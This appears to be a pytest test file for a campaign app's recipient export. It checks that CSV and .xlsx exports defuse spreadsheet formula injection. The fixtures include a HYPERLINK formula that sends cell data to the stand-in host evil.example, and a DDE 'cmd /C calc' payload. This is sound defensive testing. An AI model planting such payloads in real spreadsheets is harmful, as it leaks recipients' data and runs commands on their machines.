"""``campaign-app recipients export FILE``: CSV or .xlsx, safe to open in a spreadsheet.

A directory entry may come from a stranger's list and hold ``=HYPERLINK(…)``; opening the
export must never run it. In a CSV such cells get a leading apostrophe; in an .xlsx they
are text cells (no formula anywhere in the file) with Excel's quote prefix, shown exactly
as written.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from import_helpers import one_error, result_line, run_import, snapshot
from openpyxl import load_workbook

from campaign_app.core.directory.load import directory_files, load_directory

HOSTILE = """\
- id: hostile-1
  category: ngo
  given_name: Eve
  family_name: '=HYPERLINK("http://evil.example/?"&A1,"click")'
  position: '+1 555 0100'
  organisation: '-2+3'
  email: eve@example.org
  postal_address: '@SUM(1+1)*cmd|'' /C calc''!A0'
  notes: "  =1+1 after spaces"
  salutation: "\\tTabbed"
  tags: [safe]
"""

DANGEROUS = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "position": "+1 555 0100",
    "organisation": "-2+3",
    "postal_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "=1+1 after spaces",  # parse_recipient strips the spaces
}


@pytest.fixture
def hostile_ws(mini_ws):
    mini_ws.write("recipients/hostile.yaml", HOSTILE)
    return mini_ws


def test_csv_export_neutralises_formula_cells(hostile_ws, cli, tmp_path):
    result = cli("recipients", "export", "out.csv", "-w", "ws")
    assert result.code == 0, result.err
    assert result.out.strip() == "Wrote 6 recipients to out.csv"
    rows = {
        r["id"]: r
        for r in csv.DictReader(
            io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"), newline="")
        )
    }
    eve = rows["hostile-1"]
    for field, text in DANGEROUS.items():
        assert eve[field] == "'" + text, field
    assert eve["given_name"] == "Eve" and eve["email"] == "eve@example.org" and eve["tags"] == "safe"
    for row in rows.values():
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
    # Šimečka's row is untouched text.
    assert rows["mep-1"]["family_name"] == "Šimečka"


def test_xlsx_export_writes_text_cells_only(hostile_ws, cli, tmp_path):
    result = cli("recipients", "export", "out.xlsx", "-w", "ws", "--query", "category:ngo")
    assert result.code == 0, result.err
    assert result.out.strip() == "Wrote 1 recipients to out.xlsx"
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula
    wb = load_workbook(tmp_path / "out.xlsx")
    sheet = wb["Recipients"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["id", "category", "honorific", "given_name", "family_name"]
    cells = {name: sheet.cell(row=2, column=i + 1) for i, name in enumerate(header)}
    for field, text in DANGEROUS.items():
        cell = cells[field]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), field
    assert (cells["given_name"].value, cells["given_name"].quotePrefix) == ("Eve", False)
    assert sheet.max_row == 2
    wb.close()


def test_export_then_import_changes_nothing(mini_ws, cli, tmp_path):
    assert cli("recipients", "export", "all.xlsx", "-w", "ws", "--query", "category:mep").code == 0
    before = snapshot(mini_ws.root)
    result = run_import(cli, tmp_path / "all.xlsx")
    assert result.code == 0, result.err
    assert result_line(result.out) == "Result: 0 added, 0 updated, 2 unchanged, 0 skipped (of 2 rows)."
    assert snapshot(mini_ws.root) == before


def test_export_to_an_unknown_kind_of_file_is_one_error(mini_ws, cli, tmp_path):
    line = one_error(cli("recipients", "export", "out.pdf", "-w", "ws"))
    assert line.startswith(
        "error: out.pdf: cannot export to out.pdf: unknown kind of file — end the file name in .csv or .xlsx"
    )
    assert not (tmp_path / "out.pdf").exists()


def test_csv_export_starts_with_a_bom_so_excel_reads_cyrillic(mini_ws, cli, tmp_path):
    target = tmp_path / "people.csv"
    assert cli("recipients", "export", target, "-w", mini_ws.root).code == 0
    data = target.read_bytes()
    assert data.startswith("\ufeff".encode()) and "Зеленський".encode() in data


# A directory whose free texts start like a formula (its names and offices may not: an
# import refuses those, test_import_csv.py), and values of every kind that start so.
ROUND_TRIP_CSV = """\
id,category,given_name,family_name,position,organisation,email,postal_address,notes,salutation,political_group,committees
h-1,ngo,Eve,Adams,Director,Helsinki Group,eve@example.org,"@SUM(1+1)*cmd|' /C calc'!A0","=HYPERLINK(""http://evil.example""&A1,""click"")",'=already quoted,-2+3,+380 44 123 4567
h-2,ngo,Anna,Nowak,Lawyer,'s-Hertogenbosch office,anna@example.org,"Rue Wiertz 60
1047 Brussels",-12.5,Dear Anna,-7,+1 555 0100 (office)
"""


def records(ws, ids) -> dict[str, dict]:
    directory = load_directory(directory_files(ws / "recipients"))
    return {r.id: r.record() for r in directory if r.id in ids}


def test_a_csv_export_imported_again_gives_back_every_value(mini_ws, cli, tmp_path):
    """The apostrophe that keeps a spreadsheet from running a cell is taken away by the
    import: before, the export's '=HYPERLINK(…) came back with its apostrophe, and a phone
    number as '+380 44 123 4567."""
    mini_ws.write("recipients/hostile.csv", ROUND_TRIP_CSV)
    before = records(mini_ws.root, ("h-1", "h-2"))
    assert before["h-1"]["committees"] == "+380 44 123 4567"
    result = cli("recipients", "export", "out.csv", "-w", "ws", "--query", "category:ngo")
    assert result.code == 0, result.err
    written = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig")))}
    assert written["h-1"]["notes"] == '\'=HYPERLINK("http://evil.example"&A1,"click")'
    assert written["h-1"]["committees"] == "'+380 44 123 4567"  # a spreadsheet keeps its plus
    assert written["h-1"]["political_group"] == "'-2+3"
    assert written["h-1"]["postal_address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert written["h-2"]["notes"] == "-12.5"  # a negative number stays a number
    assert written["h-1"]["salutation"] == "''=already quoted"
    assert written["h-2"]["political_group"] == "-7"
    assert written["h-2"]["organisation"] == "'s-Hertogenbosch office"
    assert written["h-2"]["committees"] == "'+1 555 0100 (office)"

    (mini_ws.root / "recipients" / "hostile.csv").unlink()
    result = run_import(cli, tmp_path / "out.csv")
    assert result.code == 0, result.err
    assert result_line(result.out) == "Result: 2 added, 0 updated, 0 unchanged, 0 skipped (of 2 rows)."
    assert records(mini_ws.root, ("h-1", "h-2")) == before


def test_a_csv_export_imported_over_its_directory_changes_nothing(mini_ws, cli, tmp_path):
    mini_ws.write("recipients/hostile.csv", ROUND_TRIP_CSV)
    assert cli("recipients", "export", "out.csv", "-w", "ws", "--query", "category:ngo").code == 0
    before = snapshot(mini_ws.root)
    result = run_import(cli, tmp_path / "out.csv", "--update")
    assert result.code == 0, result.err
    assert result_line(result.out) == "Result: 0 added, 0 updated, 2 unchanged, 0 skipped (of 2 rows)."
    assert snapshot(mini_ws.root) == before
